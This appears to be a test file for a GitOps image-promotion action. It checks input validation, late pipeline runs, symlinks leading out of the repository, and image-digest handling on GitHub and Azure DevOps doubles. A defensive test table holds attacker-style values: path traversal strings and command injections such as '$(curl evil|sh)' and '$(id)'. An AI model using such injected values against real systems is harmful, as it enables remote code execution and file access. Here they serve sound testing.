    expect(host.requestCount()).toBe(0);
  });

  it('the branch strategy into an environment deployed by tags is refused, naming the input', async () => {
    const fx = xksRepo();
    const host = await start(githubHost, fx);
    const r = await host.push('promote-tag', checkoutMain(fx), { strategy: 'branch', environment: 'qa' });
    expect(r.code).toBe(1);
    expect(r.failure).toBe(
      'promote-tag: input strategy: "branch" is not valid; qa deploys from tags (qa-deploy-*), not from a branch: use strategy git-tag',
    );
    expect(host.requestCount()).toBe(0);
  });
});

describe.each([
  ['GitHub', githubHost],
  ['Azure DevOps', azureHost],
] as const)('per-app rules when runs arrive late, on %s', (_title, make) => {
  it('a late promote meets a newer new: the newer tag keeps the pull request, the older goes no further', async () => {
    const fx = xksRepo();
    const host = await start<Host>(make, fx);
    ok(await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': 'c1' }));
    const m1 = await host.merge(1);
    // c2 is proposed before the push that merged c1 has run its promote.
    ok(await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': 'c2' }));
    const before = { pull: host.pull(2), head: git(fx.remote, 'rev-parse', 'promote/apps-podinfo') };
    expect(metadataOf(before.pull.body)).toMatchObject({ env: 'dev', tag: 'c2', type: 'new' });

    const late = await host.push('promote-tag', m1, PROMOTE);
    expect(ok(late)).toMatchObject({
      environment: '',
      created: 'false',
      'pull-request-number': '',
      branch: '',
    });
    expect(late.stdout).toContain(
      'apps/podinfo c2 is being promoted to dev in pull request #2, newer than c1: c1 goes no further',
    );
    expect(host.pull(2)).toEqual(before.pull);
    expect(git(fx.remote, 'rev-parse', 'promote/apps-podinfo')).toBe(before.head);
    expect(host.pulls()).toHaveLength(2);
  });

  it('a late promote of a tag already further along leaves that pull request alone', async () => {
    const fx = xksRepo();
    const host = await start<Host>(make, fx);
    ok(await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': 'c1' }));
    const m1 = await host.merge(1);
    checkoutMain(fx);
    ok(await host.push('promote-tag', m1, PROMOTE));
    const m2 = await host.merge(2);
    checkoutMain(fx);
    ok(await host.push('promote-tag', m2, PROMOTE));
    const before = { pull: host.pull(3), head: git(fx.remote, 'rev-parse', 'promote/apps-podinfo') };
    expect(metadataOf(before.pull.body)).toMatchObject({ env: 'prod', tag: 'c1' });

    // The push of m1 runs its promote again (a re-run): c1 is on its way to prod already.
    const again = await host.push('promote-tag', m1, PROMOTE);
    expect(ok(again)).toMatchObject({
      environment: 'prod',
      tag: 'c1',
      created: 'false',
      'pull-request-number': '3',
      branch: 'promote/apps-podinfo',
    });
    expect(again.stdout).toContain(
      'apps/podinfo c1 is already being promoted, to prod in pull request #3: nothing to do',
    );
    expect(host.pull(3)).toEqual(before.pull);
    expect(git(fx.remote, 'rev-parse', 'promote/apps-podinfo')).toBe(before.head);
    expect(host.pulls()).toHaveLength(3);
  });
});

describe.each([
  ['GitHub', githubHost],
  ['Azure DevOps', azureHost],
] as const)(
  'a merged pull request whose metadata block was written by an attacker, on %s',
  (_title, make) => {
    it.each([
      [
        'promote/apps-podinfo',
        { group: '../../etc' },
        'its gitops-promote:promotion block has group "../../etc"',
      ],
      [
        'promote/apps-podinfo',
        { app: 'podinfo/../../x' },
        'its gitops-promote:promotion block has app "podinfo/../../x"',
      ],
      [
        'promote/apps-podinfo',
        { tag: '$(curl evil|sh)' },
        'its gitops-promote:promotion block has tag "$(curl evil|sh)", which is no image tag',
      ],
      [
        'promote/apps-podinfo',
        { env: '../prod' },
        'its gitops-promote:promotion block has env "../prod", which is not an environment',
      ],
      [
        'promote/apps-podinfo',
        { sha: '$(id)' },
        'its gitops-promote:promotion block has sha "$(id)", which is no full commit sha',
      ],
      [
        'promote/apps-podinfo',
        { type: 'rm' },
        'its gitops-promote:promotion block has type "rm" (new or promote)',
      ],
      [
        'feature/innocent',
        {},
        'its gitops-promote:promotion block promotes apps/podinfo to dev, which comes from promote/apps-podinfo or promote/dev/apps-podinfo, not feature/innocent',
      ],
    ])('from %s with %o: refused before any path or branch is made of it', async (head, edit, message) => {
      const fx = xksRepo();
      const host = (await start<Host>(make, fx)) as Host & { api: GitHubApiDouble | AzureDevOpsApi };
      const m0 = checkoutMain(fx);
      fx.git('checkout', '-q', '-b', head);
      fx.commit({ 'apps/dev/podinfo.yaml': deployment('dev', 'c9') }, 'bump');
      fx.git('push', '-q', 'origin', head);
      const meta = {
        version: 1,
        group: 'apps',
        app: 'podinfo',
        tag: 'c9',
        env: 'dev',
        sha: m0,
        type: 'new',
        ...edit,
      };
      const body = `Bumps podinfo.\n\n<!-- gitops-promote:promotion ${JSON.stringify(meta)} -->\n`;
      await providerOf(host).createPullRequest({ head, base: 'main', title: 'Bump podinfo', body });
      const merged = await host.merge(1);
      checkoutMain(fx);
      const refs = git(fx.remote, 'for-each-ref', '--format=%(refname) %(objectname)');

      const r = await host.push('promote-tag', merged, PROMOTE);
      expect(r.code).toBe(1);
      expect(r.failure).toContain(`promote-tag: pull request #1 (${head} → main): ${message}`);
      expect(r.outputs.branch).toBeUndefined();
      expect(host.pulls()).toHaveLength(1);
      expect(git(fx.remote, 'for-each-ref', '--format=%(refname) %(objectname)')).toBe(refs);
    });
  },
);

/** The platform's own client, to do what a person does on the hosting service (open a pull request). */
function providerOf(host: Host & { api: GitHubApiDouble | AzureDevOpsApi }) {
  return host.name === 'github'
    ? githubProviderOn(host.api as GitHubApiDouble)
    : azureProviderOn(host.api as AzureDevOpsApi);
}

describe('the environment manifests are read inside the repository only', () => {
  it('apps/dev as a symbolic link out of the checkout is refused, and nothing is written', async () => {
    const outside = mkdtempSync(join(tmpdir(), 'gp-outside-'));
    writeFileSync(join(outside, 'podinfo.yaml'), deployment('dev', '1.0.0'));
    const fx = xksRepo();
    fx.git('rm', '-rq', 'apps/dev');
    symlinkSync(outside, join(fx.work, 'apps', 'dev'));
    fx.commit({}, 'dev from elsewhere');
    fx.git('push', '-q', 'origin', 'main');
    const host = await start(githubHost, fx);
    const r = await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': 'c2' });
    expect(r.code).toBe(1);
    expect(r.failure).toBe(
      `promote-tag: apps/dev leads outside the repository (a symbolic link to ${realpathSync(outside)}); the manifests of an environment must be in the repository (nothing was written)`,
    );
    expect(host.pulls()).toEqual([]);
    expect(host.api.requests.filter(isWrite)).toEqual([]);
    expect(git(fx.remote, 'branch', '--list', 'promote/*')).toBe('');
  });
});

describe.each([
  ['GitHub', githubHost],
  ['Azure DevOps', azureHost],
] as const)('image digests in the shapes Flux documents, on %s', (_title, make) => {
  const OLD = `sha256:${'0'.repeat(64)}`;
  const NEW_DIGEST = `sha256:${'7f'.repeat(32)}`;
  /** Helm values with Flux's :name, :tag and :digest setters; a full-image setter pinned by digest; a kustomization entry with digest. */
  const pinnedFiles = (env: string) => ({
    [`apps/${env}/values.yaml`]: `image:\n  repository: ghcr.io/org/podinfo # {"$imagepolicy": "apps:podinfo:name"}\n  tag: 1.0.0 # {"$imagepolicy": "apps:podinfo:tag"}\n  digest: ${OLD} # {"$imagepolicy": "apps:podinfo:digest"}\n`,
    [`apps/${env}/podinfo.yaml`]: `spec:\n  containers:\n    - image: ghcr.io/org/podinfo:1.0.0@${OLD} # {"$imagepolicy": "apps:podinfo"}\n`,
    [`apps/${env}/kustomization.yaml`]: `images:\n  - name: ghcr.io/org/podinfo\n    newTag: 1.0.0\n    digest: ${OLD}\n`,
  });
  const pinnedRepo = () =>
    gitFixture({ 'gitops-promotion.yaml': XKS_CONFIG, ...pinnedFiles('dev'), ...pinnedFiles('qa') });

  it('new with image-digest pins every place, and promote carries the digest to the next environment', async () => {
    const fx = pinnedRepo();
    const host = await start<Host>(make, fx);
    const m0 = checkoutMain(fx);
    const r = ok(
      await host.push('promote-tag', m0, { ...NEW, 'image-tag': '2.0.0', 'image-digest': NEW_DIGEST }),
    );
    expect(r).toMatchObject({ environment: 'dev', tag: '2.0.0', created: 'true', dispatched: 'false' });
    const at = (env: string) => ({
      values: remoteFile(fx, 'promote/apps-podinfo', `apps/${env}/values.yaml`),
      deployment: remoteFile(fx, 'promote/apps-podinfo', `apps/${env}/podinfo.yaml`),
      kustomization: remoteFile(fx, 'promote/apps-podinfo', `apps/${env}/kustomization.yaml`),
    });
    expect(at('dev')).toEqual({
      values: `image:\n  repository: ghcr.io/org/podinfo # {"$imagepolicy": "apps:podinfo:name"}\n  tag: 2.0.0 # {"$imagepolicy": "apps:podinfo:tag"}\n  digest: ${NEW_DIGEST} # {"$imagepolicy": "apps:podinfo:digest"}\n`,
      deployment: `spec:\n  containers:\n    - image: ghcr.io/org/podinfo:2.0.0@${NEW_DIGEST} # {"$imagepolicy": "apps:podinfo"}\n`,
      kustomization: `images:\n  - name: ghcr.io/org/podinfo\n    newTag: 2.0.0\n    digest: ${NEW_DIGEST}\n`,
    });
    expect(metadataOf(host.pull(1).body)).toMatchObject({ tag: '2.0.0', digest: NEW_DIGEST, env: 'dev' });

    const merged = await host.merge(1);
    checkoutMain(fx);
    const next = ok(await host.push('promote-tag', merged, PROMOTE));
    expect(next).toMatchObject({ environment: 'qa', tag: '2.0.0', created: 'true' });
    const qa = host.pulls().find((p) => p.state === 'open')!;
    expect(metadataOf(qa.body)).toMatchObject({ tag: '2.0.0', digest: NEW_DIGEST, env: 'qa' });
    expect(remoteFile(fx, qa.head, 'apps/qa/podinfo.yaml')).toContain(`podinfo:2.0.0@${NEW_DIGEST}`);
  });

  it.each([
    ['values.yaml', 4, 'the apps:podinfo:digest setter pins a digest'],
    ['podinfo.yaml', 3, 'the apps:podinfo setter marks an image pinned by digest'],
    ['kustomization.yaml', 2, 'the images entry for podinfo pins a digest'],
  ])(
    'only a tag for a pinned %s: an error naming file and line, nothing written',
    async (file, line, what) => {
      const path = `apps/dev/${file}`;
      const fx = gitFixture({ 'gitops-promotion.yaml': XKS_CONFIG, [path]: pinnedFiles('dev')[path]! });
      const host = await start<Host>(make, fx);
      const r = await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': '2.0.0' });
      expect(r.code).toBe(1);
      expect(r.failure).toContain(`promote-tag: ${path}:${line}: ${what}`);
      expect(r.failure).toContain('only image-tag 2.0.0 was given');
      expect(host.pulls()).toEqual([]);
      expect(git(fx.remote, 'branch', '--list', 'promote/*')).toBe('');
    },
  );

  it('a digest nothing takes (a :tag setter alone) is refused; a malformed digest is refused before any request', async () => {
    const fx = gitFixture({
      'gitops-promotion.yaml': XKS_CONFIG,
      'apps/dev/values.yaml': 'tag: 1.0.0 # {"$imagepolicy": "apps:podinfo:tag"}\n',
    });
    const host = await start<Host>(make, fx);
    const m0 = checkoutMain(fx);
    const bad = await host.push('promote-tag', m0, {
      ...NEW,
      'image-tag': '2',
      'image-digest': 'sha256:abc',
    });
    expect(bad.failure).toBe(
      'promote-tag: input image-digest: "sha256:abc" is not valid; an image digest is sha256: followed by 64 lower-case hexadecimal digits',
    );
    expect(host.requestCount()).toBe(0);
    const r = await host.push('promote-tag', m0, { ...NEW, 'image-tag': '2', 'image-digest': NEW_DIGEST });
    expect(r.code).toBe(1);
    expect(r.failure).toContain(
      `image-digest ${NEW_DIGEST} was given, but no manifest under apps/dev takes a digest`,
    );
    expect(host.pulls()).toEqual([]);
  });
});
